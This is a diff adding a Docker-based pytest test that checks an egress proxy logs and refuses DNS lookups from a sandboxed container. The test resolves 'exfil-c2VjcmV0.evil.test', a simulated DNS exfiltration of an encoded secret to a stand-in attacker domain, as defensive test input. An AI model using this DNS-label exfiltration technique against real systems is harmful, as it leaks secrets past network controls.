@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import contextlib
+import json
 import os
 import signal
 import subprocess
@@ -24,7 +25,7 @@ from ..conftest import Cohort
 pytestmark = pytest.mark.docker
 
 FETCH = (
-    "python3 -c \"import sys, urllib.request as u\n"
+    'python3 -c "import sys, urllib.request as u\n'
     "for url in sys.argv[1:]:\n"
     "    try: print(url, u.urlopen(url, timeout=10).read().decode())\n"
     "    except Exception as e: print(url, 'FAILED', e)\" "
@@ -68,6 +69,36 @@ def test_cell_reaches_its_allowlist_and_leaves_nothing(
     assert set(agent["refused_destinations"]) == {f"unlisted.test:{port}", f"{ip}:{port}"}
     assert record["isolation"]["network"]["agent"] == "allowlist"
     assert _egress_leftovers(docker_api, "egress-ok") == []
+
+
+def test_dns_questions_are_logged_and_bytes_counted(
+    cohort: Cohort, docker_api, egress_upstream, tmp_path_factory: pytest.TempPathFactory
+) -> None:  # type: ignore[no-untyped-def]
+    """A name resolved in the container asks the proxy's responder: logged, refused; the resolver is put back."""
+    _, _, port = egress_upstream
+    cohort.task("egress-dns")
+    resolve = (
+        "python3 -c \"import socket\nfor n in ('exfil-c2VjcmV0.evil.test', 'allowed.test'):\n"
+        "    try: print(n, socket.getaddrinfo(n, 80))\n"
+        "    except OSError as e: print(n, 'FAILED', e)\" > $MAKA_LOGS_DIR/dns.txt 2>&1; "
+    )
+    cohort.write(
+        subjects=[{"name": "a", "kind": "command", "command": resolve + FETCH + f"http://allowed.test:{port}/a"}],
+        executor=_executor(tmp_path_factory.mktemp("state"), egress_upstream),
+        policy={"egress": [f"allowed.test:{port}"]},
+    )
+    result = cohort.run_subprocess(timeout=300)
+    record = cohort.results()["egress-dns[a-r0]"]
+    assert record["status"] == "agent_failure", result.stdout.str()[-2000:]
+    seen = (cohort.out / record["artifacts"]["agent_logs"] / "dns.txt").read_text()
+    assert seen.count("FAILED") == 2, seen
+    events = [json.loads(x) for x in (cohort.out / record["artifacts"]["egress_log"]).read_text().splitlines()]
+    asked = {e["destination"] for e in events if e["method"] == "DNS" and not e["allowed"]}
+    assert {"exfil-c2VjcmV0.evil.test:53", "allowed.test:53"} <= asked, events
+    (ok,) = [e for e in events if e["allowed"]]
+    assert ok["destination"] == f"allowed.test:{port}" and ok["bytes_in"] > len(EGRESS_TOKEN), ok
+    assert ok["bytes"] == ok["bytes_out"] + ok["bytes_in"]
+    assert _egress_leftovers(docker_api, "egress-dns") == []
 
 
 def test_ctrl_c_removes_egress_networks_and_proxies(
